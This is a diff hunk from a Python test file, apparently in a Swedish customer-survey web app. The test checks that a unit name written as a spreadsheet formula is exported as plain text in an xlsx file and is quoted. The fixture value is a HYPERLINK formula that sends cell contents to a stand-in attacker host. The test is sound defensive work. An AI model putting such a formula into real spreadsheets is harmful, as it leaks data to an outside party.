@@ -170,7 +170,7 @@ def test_a_unit_name_written_as_a_formula_is_text_in_the_xlsx_and_quoted_in_the_
     from kundpuls.web.org.models import Unit
 
     formula = '=HYPERLINK("http://angripare.example/?"&B3,"Personal")'
-    Unit.objects.filter(code="VOF-HT-S").update(name=formula)
+    Unit.objects.filter(code="VOF-HT").update(name=formula)  # the parent: a row of the comparison table
     client = _client(personas, "admin")
     book = load_workbook(io.BytesIO(client.get(UNIT_A + "tabeller.xlsx?survey=nki").content))
     cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
